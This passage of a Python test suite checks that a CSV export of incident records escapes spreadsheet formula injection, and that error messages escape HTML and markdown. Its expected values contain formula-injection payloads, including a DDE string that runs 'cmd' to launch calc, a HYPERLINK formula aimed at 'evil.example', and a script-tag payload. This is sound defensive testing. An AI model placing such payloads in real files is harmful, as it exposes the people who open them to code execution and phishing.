        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [-36.6, -35.4]}, "properties": props}]})
    dataset = load_incidents_bytes(data.encode(), name="formula.geojson")
    row = next(csv.DictReader(io.StringIO(to_csv(dataset, IncidentFilter()))))
    assert {name: row[name] for name in ("title", "place", "perpetrator", "description", "claims", "sources",
                                         "tags", "extra", "longitude", "latitude")} == {
        "title": "'=cmd|' /C calc'!A0",
        "place": "'+SUM(A1:A9)",
        "perpetrator": "'@evil",
        "description": "'-1+1",
        "claims": '[{"by": "=HYPERLINK(\\"https://evil.example\\")", "stance": "asserts"}]',
        "sources": '[{"title": "\\t=tab"}]',
        "tags": '["=1"]',
        "extra": '{"x_formula": "=2+2"}',
        "longitude": "-36.6",  # numbers stay numbers
        "latitude": "-35.4",
    }


def test_problem_messages_about_payloads_are_plain_text_to_escape() -> None:
    problem = Problem("<b>file</b>", "'<script>x</script>' is not a status", 1, "<i>id</i>", "status")
    assert escape_markdown(str(problem)) == ("\\<b\\>file\\<\\/b\\>\\: feature \\#1 \\(\\<i\\>id\\<\\/i\\>\\)\\: "
                                             "status\\: \\'\\<script\\>x\\<\\/script\\>\\' is not a status")
